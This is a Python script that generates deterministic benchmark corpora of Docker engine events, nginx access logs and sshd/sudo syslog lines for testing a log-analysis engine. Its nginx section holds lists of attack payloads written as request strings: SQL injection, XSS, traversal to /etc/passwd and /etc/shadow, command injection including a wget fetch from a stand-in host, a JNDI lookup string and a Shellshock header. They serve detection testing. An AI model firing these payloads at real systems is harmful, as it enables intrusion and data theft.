#!/usr/bin/env python3
"""Deterministic benchmark corpora for `make bench`.

Usage: bench/gen_corpus.py OUT_DIR [--events N] [--seed S]

Writes three files of N events each (default 200,000, seed 1); the same seed always gives the
same bytes. One event per line, as five tab-separated columns the driver (bench_engine.c) reads:

    location <TAB> container id <TAB> container name <TAB> image <TAB> event text

("-" for no container). The generated text never holds a raw tab or newline.

  docker.tsv  Docker engine events as the Docker listener forwards them
              ({"integration": "docker", "docker": {...}}, location Wazuh-Docker): container,
              image, network and volume events with the actions and attributes a busy host
              produces, half with the legacy status/id/from fields (engine 20.10), half without.
  nginx.tsv   nginx access lines ("main" format) inside Docker json-file lines, from four
              containers, located at their /var/lib/docker/containers/<id>/<id>-json.log;
              10% are attacks (SQL injection, XSS, path traversal, command injection, scanners).
  auth.tsv    syslog lines of /var/log/auth.log: sshd logins (password, key, failures, invalid
              users, disconnects), sudo commands and failures, PAM sessions and auth failures.
"""
import argparse
import json
import os
import random

BASE_NS = 1795707399926312375  # the fixture's first timeNano (2026-11-26)


def hexid(rng, n=64):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


# ---- (a) Docker events ------------------------------------------------------------------------

IMAGES = ["nginx", "httpd", "redis:7", "postgres:16", "node:20-alpine", "python:3.12-slim",
          "grafana/grafana:11.1.0", "prom/prometheus", "busybox", "alpine:3.20",
          "registry.example.com/shop/api:2.4.1", "mariadb:11"]
WORDS = ["eager", "quirky", "brave", "sleepy", "jolly", "focused", "admiring", "nifty",
         "zealous", "vibrant"]
SCIENTISTS = ["turing", "hopper", "lovelace", "curie", "noether", "darwin", "tesla", "bohr",
              "feynman", "hamilton"]
# Container actions with their weights: lifecycle dominates, exec and health are frequent.
CONTAINER_ACTIONS = [("create", 6), ("start", 8), ("stop", 5), ("die", 6), ("kill", 4),
                     ("pause", 2), ("unpause", 2), ("destroy", 5), ("restart", 2),
                     ("attach", 2), ("exec_create", 6), ("exec_start", 6), ("exec_die", 6),
                     ("health_status", 10), ("rename", 1), ("update", 1), ("top", 2),
                     ("export", 1), ("commit", 1), ("resize", 3), ("oom", 1),
                     ("archive-path", 1), ("extract-to-dir", 1)]
IMAGE_ACTIONS = [("pull", 5), ("tag", 3), ("untag", 3), ("delete", 3), ("import", 1),
                 ("load", 1), ("save", 1), ("push", 1)]
NETWORK_ACTIONS = [("connect", 6), ("disconnect", 6), ("create", 1), ("destroy", 1)]
VOLUME_ACTIONS = [("create", 2), ("mount", 6), ("unmount", 6), ("destroy", 1)]
TYPES = [("container", 70), ("image", 10), ("network", 12), ("volume", 8)]
EXEC_CMDS = ["sh", "bash", "/bin/bash", "ls -la /", "cat /etc/os-release", "ps aux",
             "redis-cli ping", "pg_isready", "curl -s localhost:8080/health", "dash"]


def weighted(rng, table):
    return rng.choices([k for k, _ in table], weights=[w for _, w in table])[0]


class DockerHost:
    def __init__(self, rng):
        self.rng = rng
        self.containers = []
        for i in range(40):
            image = rng.choice(IMAGES)
            name = f"{rng.choice(WORDS)}_{rng.choice(SCIENTISTS)}" if i % 3 else \
                f"shop-{image.split('/')[-1].split(':')[0]}-{i}"
            labels = {}
            if i % 2 == 0:
                labels = {"com.docker.compose.project": "shop",
                          "com.docker.compose.service": name.split("-")[1] if "-" in name
                          else "worker",
                          "com.docker.compose.version": "2.29.1",
                          "com.docker.compose.container-number": str(1 + i % 3)}
            self.containers.append((hexid(rng), name, image, labels))
        self.networks = [(hexid(rng), n, t) for n, t in
                         [("bridge", "bridge"), ("shop_default", "bridge"), ("host", "host"),
                          ("monitoring", "bridge")]]
        self.volumes = [hexid(rng) for _ in range(6)] + ["shop_pgdata", "shop_redis"]
        self.t = BASE_NS

    def event(self):
        rng = self.rng
        self.t += rng.randrange(1_000_000, 400_000_000)
        kind = weighted(rng, TYPES)
        legacy = rng.random() < 0.5
        d = {}
        cid, cname, cimage, labels = rng.choice(self.containers)
        if kind == "container":
            action = weighted(rng, CONTAINER_ACTIONS)
            attrs = dict(labels)
            attrs["image"] = cimage
            attrs["name"] = cname
            if action == "die":
                attrs["exitCode"] = rng.choice(["0", "0", "0", "1", "137", "143"])
            elif action == "kill":
                attrs["signal"] = rng.choice(["15", "9", "28"])
            elif action in ("exec_create", "exec_start"):
                cmd = rng.choice(EXEC_CMDS)
                action = f"{action}: {cmd} "
                attrs["execID"] = hexid(rng)
            elif action == "exec_die":
                attrs["execID"] = hexid(rng)
                attrs["exitCode"] = rng.choice(["0", "0", "1"])
            elif action == "health_status":
                action = "health_status: " + rng.choice(["healthy", "healthy", "unhealthy"])
            elif action == "rename":
                attrs["oldName"] = "/" + cname + "_old"
            elif action == "resize":
                attrs["height"] = str(rng.randrange(20, 80))
                attrs["width"] = str(rng.randrange(80, 250))
            if legacy:
                d["status"] = action
                d["id"] = cid
                d["from"] = cimage
            d.update({"Type": "container", "Action": action,
                      "Actor": {"ID": cid, "Attributes": dict(sorted(attrs.items()))}})
        elif kind == "image":
            action = weighted(rng, IMAGE_ACTIONS)
            if action in ("untag", "delete"):
                ident = "sha256:" + hexid(rng)
                attrs = {"name": ident}
            else:
                ident = cimage if ":" in cimage else cimage + ":latest"
                attrs = {"name": ident}
            if legacy:
                d["status"] = action
                d["id"] = ident
            d.update({"Type": "image", "Action": action,
                      "Actor": {"ID": ident, "Attributes": attrs}})
        elif kind == "network":
            action = weighted(rng, NETWORK_ACTIONS)
            nid, nname, ntype = rng.choice(self.networks)
            attrs = {"name": nname, "type": ntype}
            if action in ("connect", "disconnect"):
                attrs = {"container": cid, **attrs}
            d.update({"Type": "network", "Action": action,
                      "Actor": {"ID": nid, "Attributes": attrs}})
        else:
            action = weighted(rng, VOLUME_ACTIONS)
            vid = rng.choice(self.volumes)
            attrs = {"driver": "local"}
            if action in ("mount", "unmount"):
                attrs = {"container": cid, "destination": rng.choice(["/data", "/var/lib/postgresql/data", "/usr/share/nginx/html"]),
                         "driver": "local", "propagation": "", "read/write": "true"}
            d.update({"Type": "volume", "Action": action,
                      "Actor": {"ID": vid, "Attributes": attrs}})
        d["scope"] = "local"
        d["time"] = self.t // 1_000_000_000
        d["timeNano"] = self.t
        # The listener forwards the engine's JSON inside its own envelope, serialised with
        # ", " and ": " separators (the mission's input has exactly this shape).
        return json.dumps({"integration": "docker", "docker": d})


def gen_docker(rng, n):
    host = DockerHost(rng)
    for _ in range(n):
        yield ("Wazuh-Docker", "-", "-", "-", host.event())


# ---- (b) nginx access lines in Docker json-file lines ------------------------------------------

PAGES = ["/", "/index.html", "/favicon.ico", "/robots.txt", "/about", "/contact", "/login",
         "/logout", "/cart", "/checkout", "/search?q={w}", "/products/{n}",
         "/products/{n}/reviews?page={p}", "/api/v1/items?limit={p}&offset={n}",
         "/api/v1/users/{n}", "/static/css/site.{h}.css", "/static/js/app.{h}.js",
         "/images/{w}-{n}.jpg", "/blog/{y}/{w}-{w}", "/healthz", "/metrics"]
UAS = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/126.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
       "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
       "curl/7.88.1", "Wget/1.21.3", "kube-probe/1.30", "Prometheus/2.53.0",
       "python-requests/2.32.3", "Go-http-client/1.1"]
# Attack requests, in the forms scanners and people send them.
SQLI = ["/users/?id=SELECT+*+FROM+users", "/products?id=1%27%20OR%20%271%27=%271",
        "/products?id=1+union+select+null,null,version()--", "/item.php?id=-1%20UNION%20SELECT%201,2,3",
        "/login?user=admin%27--&pass=x", "/search?q=%27;DROP%20TABLE%20users;--",
        "/api/v1/items?sort=name;select%20pg_sleep(5)", "/news.php?id=1%20AND%201=1",
        "/page?id=1%27%20and%20sleep(5)%23", "/a.asp?id=1;exec%20xp_cmdshell(%27dir%27)"]
XSS = ["/search?q=<script>alert(1)</script>", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
       "/comment?text=<img src=x onerror=alert(1)>", "/profile?name=%22%3E%3Csvg/onload=alert(1)%3E",
       "/redirect?url=javascript:alert(1)", "/?q=<body onload=alert('x')>"]
TRAVERSAL = ["/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd",
             "/download?file=../../../../etc/shadow", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
             "/index.php?page=....//....//etc/passwd", "/files/%2e%2e/%2e%2e/windows/win.ini",
             "/img/..%c0%af..%c0%af..%c0%afetc/passwd"]
CMDI = ["/ping?host=127.0.0.1;cat%20/etc/passwd", "/cgi-bin/test.cgi?x=|id",
        "/run?cmd=$(wget%20http://203.0.113.9/x.sh)", "/?x=${jndi:ldap://203.0.113.9/a}",
        "/shell.php?c=uname%20-a", "/wp-login.php", "/.env", "/.git/config",
        "/phpmyadmin/index.php", "/admin/config.php"]
SCANNER_UAS = ["sqlmap/1.8.6#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6)",
               "masscan/1.3", "Nmap Scripting Engine", "WPScan v3.8.25", "() { :; }; /bin/bash -c 'id'"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def json_file_escape(s):
    """Docker's json-file writer: JSON string escapes, plus <, > and & as \\u003c style."""
    out = json.dumps(s, ensure_ascii=False)[1:-1]
    return out.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def clock(ns):
    import time as _t
    sec = ns // 1_000_000_000
    tm = _t.gmtime(sec)
    return tm, ns % 1_000_000_000


def gen_nginx(rng, n):
    containers = []
    for i in range(4):
        cid = hexid(rng)
        containers.append((f"/var/lib/docker/containers/{cid}/{cid}-json.log", cid,
                           ["web", "shop-nginx-1", "shop-nginx-2", "edge-proxy"][i],
                           ["nginx", "nginx:1.27", "nginx:1.27", "nginx:stable-alpine"][i]))
    clients = [f"{rng.choice([10, 172, 192, 198, 203])}.{rng.randrange(256)}."
               f"{rng.randrange(256)}.{rng.randrange(1, 255)}" for _ in range(300)]
    attackers = [f"203.0.113.{rng.randrange(1, 255)}" for _ in range(12)] + \
                [f"198.51.100.{rng.randrange(1, 255)}" for _ in range(12)]
    t = BASE_NS
    for i in range(n):
        t += rng.randrange(100_000, 20_000_000)
        loc, cid, cname, image = rng.choice(containers)
        tm, frac = clock(t)
        local = (f"{tm.tm_mday:02d}/{MONTHS[tm.tm_mon - 1]}/{tm.tm_year}:"
                 f"{tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d} +0000")
        attack = rng.random() < 0.10
        if attack:
            ip = rng.choice(attackers)
            kind = rng.randrange(4)
            path = rng.choice([SQLI, XSS, TRAVERSAL, CMDI][kind])
            method = rng.choice(["GET", "GET", "GET", "POST", "HEAD"])
            status = rng.choice([400, 403, 404, 404, 200, 500])
            size = rng.randrange(0, 600)
            ua = rng.choice(SCANNER_UAS + UAS[:4])
            ref = "-"
        else:
            ip = rng.choice(clients)
            tmpl = rng.choice(PAGES)
            path = tmpl.format(w=rng.choice(WORDS), n=rng.randrange(1, 50000),
                               p=rng.randrange(1, 50), h=hexid(rng, 8),
                               y=rng.randrange(2019, 2027))
            method = rng.choices(["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS"],
                                 weights=[80, 10, 4, 2, 2, 2])[0]
            status = rng.choices([200, 304, 301, 302, 404, 401, 500, 502],
                                 weights=[70, 10, 4, 4, 7, 2, 2, 1])[0]
            size = rng.randrange(0, 250000) if status == 200 else rng.randrange(0, 600)
            ua = rng.choice(UAS)
            ref = rng.choice(["-", "-", "https://shop.example.com/",
                              "https://www.google.com/", "https://shop.example.com/cart"])
        proto = rng.choice(["HTTP/1.1", "HTTP/1.1", "HTTP/1.0", "HTTP/2.0"])
        line = (f'{ip} - - [{local}] "{method} {path} {proto}" {status} {size} "{ref}" '
                f'"{ua}" "-"\n')
        iso = (f"{tm.tm_year}-{tm.tm_mon:02d}-{tm.tm_mday:02d}T{tm.tm_hour:02d}:"
               f"{tm.tm_min:02d}:{tm.tm_sec:02d}.{frac:09d}Z")
        text = f'{{"log":"{json_file_escape(line)}","stream":"stdout","time":"{iso}"}}'
        yield (loc, cid, cname, image, text)


# ---- (c) sshd, sudo and PAM syslog lines ------------------------------------------------------

USERS = ["alice", "bob", "carol", "deploy", "ubuntu", "backup", "git", "ansible"]
BAD_USERS = ["admin", "test", "oracle", "postgres", "user", "guest", "pi", "support", "ftpuser",
             "hadoop", "www", "ubnt"]
SUDO_CMDS = ["/usr/bin/apt update", "/usr/bin/systemctl restart nginx", "/usr/bin/docker ps -a",
             "/usr/bin/journalctl -u ssh", "/bin/cat /var/log/syslog", "/usr/bin/vim /etc/hosts",
             "/usr/bin/docker compose up -d", "/bin/bash"]


def gen_auth(rng, n):
    hosts = ["web01", "web02", "db01", "bastion"]
    good_ips = [f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}" for _ in range(20)]
    bad_ips = [f"{rng.choice([45, 61, 103, 185, 218])}.{rng.randrange(256)}."
               f"{rng.randrange(256)}.{rng.randrange(1, 255)}" for _ in range(60)]
    t = BASE_NS
    pid = 4000
    for i in range(n):
        t += rng.randrange(1_000_000, 300_000_000)
        tm, frac = clock(t)
        host = rng.choice(hosts)
        if rng.random() < 0.8:
            stamp = f"{MONTHS[tm.tm_mon - 1]} {tm.tm_mday:2d} {tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d}"
        else:  # rsyslog's RFC 3339 form (Debian 12's default template)
            stamp = (f"{tm.tm_year}-{tm.tm_mon:02d}-{tm.tm_mday:02d}T{tm.tm_hour:02d}:"
                     f"{tm.tm_min:02d}:{tm.tm_sec:02d}.{frac // 1000:06d}+00:00")
        pid = 1000 + (pid * 7 + 13) % 60000
        port = rng.randrange(1024, 65535)
        user = rng.choice(USERS)
        gip, bip = rng.choice(good_ips), rng.choice(bad_ips)
        k = rng.choices(range(16), weights=[8, 6, 14, 10, 8, 6, 6, 6, 5, 5, 6, 4, 3, 3, 3, 2])[0]
        if k == 0:
            msg = f"sshd[{pid}]: Accepted publickey for {user} from {gip} port {port} ssh2: ED25519 SHA256:{hexid(rng, 43)}"
        elif k == 1:
            msg = f"sshd[{pid}]: Accepted password for {user} from {gip} port {port} ssh2"
        elif k == 2:
            msg = f"sshd[{pid}]: Failed password for {rng.choice(USERS)} from {bip} port {port} ssh2"
        elif k == 3:
            msg = f"sshd[{pid}]: Failed password for invalid user {rng.choice(BAD_USERS)} from {bip} port {port} ssh2"
        elif k == 4:
            msg = f"sshd[{pid}]: Invalid user {rng.choice(BAD_USERS)} from {bip} port {port}"
        elif k == 5:
            msg = f"sshd[{pid}]: Connection closed by authenticating user {user} {bip} port {port} [preauth]"
        elif k == 6:
            msg = f"sshd[{pid}]: Disconnected from user {user} {gip} port {port}"
        elif k == 7:
            msg = f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid={1000 + USERS.index(user)}) by (uid=0)"
        elif k == 8:
            msg = f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}"
        elif k == 9:
            msg = (f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                   f"euid=0 tty=ssh ruser= rhost={bip}  user={rng.choice(USERS)}")
        elif k == 10:
            cmd = rng.choice(SUDO_CMDS)
            msg = (f"sudo: {user} : TTY=pts/{rng.randrange(4)} ; PWD=/home/{user} ; USER=root ; "
                   f"COMMAND={cmd}")
        elif k == 11:
            msg = (f"sudo[{pid}]: pam_unix(sudo:session): session opened for user root(uid=0) by "
                   f"{user}(uid={1000 + USERS.index(user)})")
        elif k == 12:
            msg = f"sudo[{pid}]: pam_unix(sudo:session): session closed for user root"
        elif k == 13:
            msg = (f"sudo: {user} : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/{user} ; "
                   f"USER=root ; COMMAND={rng.choice(SUDO_CMDS)}")
        elif k == 14:
            msg = (f"sudo: pam_unix(sudo:auth): authentication failure; logname={user} "
                   f"uid={1000 + USERS.index(user)} euid=0 tty=/dev/pts/0 ruser={user} rhost=  user={user}")
        else:
            msg = (f"sshd[{pid}]: Received disconnect from {bip} port {port}:11: Bye Bye [preauth]")
        yield ("/var/log/auth.log", "-", "-", "-", f"{stamp} {host} {msg}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--events", type=int, default=200_000)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    for name, gen in (("docker", gen_docker), ("nginx", gen_nginx), ("auth", gen_auth)):
        rng = random.Random(f"{a.seed}:{name}")
        path = os.path.join(a.out, f"{name}.tsv")
        with open(path + ".tmp", "w", encoding="utf-8", newline="\n") as f:
            for cols in gen(rng, a.events):
                assert all("\t" not in c and "\n" not in c for c in cols), cols
                f.write("\t".join(cols) + "\n")
        os.replace(path + ".tmp", path)


if __name__ == "__main__":
    main()
